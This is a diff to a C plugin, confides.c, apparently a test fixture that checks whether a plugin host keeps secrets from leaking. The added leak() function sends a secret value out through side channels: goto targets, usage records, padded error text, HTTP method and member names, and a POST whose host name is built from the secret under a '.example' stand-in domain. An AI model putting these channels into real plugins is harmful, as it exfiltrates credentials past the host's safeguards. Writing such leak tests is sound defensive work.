@@ -1,6 +1,8 @@
 /* confides.c -- a plugin with secrets, too frank about them.  ask {name, then}:
  * gets a secret and emits {value, key}: how long it is, and how long config.key
- * is; with `then: fail`, `then: log` or `then: emit` it says the value.  With
+ * is; with `then: fail`, `log` or `emit` it says the value, with `long` behind a
+ * kilobyte, with `goto` it goes there, with `usage` it is a model's name, and
+ * with `step`, `host`, `method` and `member` it is that of an ask.  With
  * config.refuse it does not start, and says its key. */
 #include <stdio.h>
 
@@ -28,6 +30,66 @@ static mortise_status create(mortise_host *host, const mortise_host_api *api,
     return simple_create(host, api, config, out);
 }
 
+/* Says what came of an ask. */
+static mortise_status ask(mortise_inst *i, const mortise_request *r,
+                          const char *method, const char *body)
+{
+    mortise_str answer = {NULL, 0};
+    mortise_status status = i->api->ask_wait(
+        i->host, r->call, mortise_strz(method), mortise_strz(body), &answer);
+    char words[1024];
+
+    if (status == MORTISE_S_OK)
+        return simple_emit(i, r, "{}");
+    snprintf(words, sizeof words, "%.*s", (int)answer.n, answer.p);
+    return mortise_refuse(i->host, i->api, r->call, MORTISE_S_FAILED,
+                          "permanent", "asked", words);
+}
+
+/* By another door than emit, log and fail. */
+static mortise_status leak(mortise_inst *i, const mortise_request *r,
+                           const char *value, const char *then)
+{
+    static const struct {
+        const char *then, *method, *before, *behind;
+    } asks[] = {
+        {"step", MORTISE_STATE_GET_1, "{\"path\": \"input\", \"step\": \"s-",
+         "\"}"},
+        {"host", MORTISE_HTTP_REQUEST_1,
+         "{\"method\": \"POST\", \"url\": \"http://", ".example:99/\"}"},
+        {"method", MORTISE_HTTP_REQUEST_1,
+         "{\"url\": \"http://127.0.0.1:1/\", \"method\": \"m-", "\"}"},
+        {"member", MORTISE_HTTP_REQUEST_1,
+         "{\"url\": \"http://127.0.0.1:1/\", \"0123456789012345678901234567890",
+         "\": 1}"},
+    };
+    char text[2200];
+
+    if (strcmp(then, "goto") == 0) {
+        mortise_emit_goto(i->host, i->api, r->call, mortise_strz(value));
+        return simple_emit(i, r, "{}");
+    }
+    if (strcmp(then, "usage") == 0) {
+        snprintf(text, sizeof text, "{\"model_calls\": 1, \"model\": \"m-%s\"}",
+                 value);
+        mortise_emit_usage(i->host, i->api, r->call, mortise_strz(text));
+        return simple_emit(i, r, "{}");
+    }
+    if (strcmp(then, "long") == 0) {
+        snprintf(text, sizeof text, "%01000d%s", 0, value);
+        return mortise_refuse(i->host, i->api, r->call, MORTISE_S_FAILED,
+                              "permanent", "long", text);
+    }
+    for (size_t k = 0; k < sizeof asks / sizeof asks[0]; k++) {
+        if (strcmp(then, asks[k].then) != 0)
+            continue;
+        snprintf(text, sizeof text, "%s%s%s", asks[k].before, value,
+                 asks[k].behind);
+        return ask(i, r, asks[k].method, text);
+    }
+    return MORTISE_S_INVALID;
+}
+
 static mortise_status tell(mortise_inst *i, const mortise_request *r,
                            mortise_str answer, const char *then)
 {
@@ -51,6 +113,8 @@ static mortise_status tell(mortise_inst *i, const mortise_request *r,
         snprintf(text, sizeof text, "{\"%s\": [\"it is %s\"]}", value, value);
         return simple_emit(i, r, text);
     }
+    if (then[0] != '\0' && strcmp(then, "log") != 0)
+        return leak(i, r, value, then);
     snprintf(text, sizeof text, "{\"value\": %d, \"key\": %d}",
              (int)strlen(value), (int)strlen(key));
     return simple_emit(i, r, text);
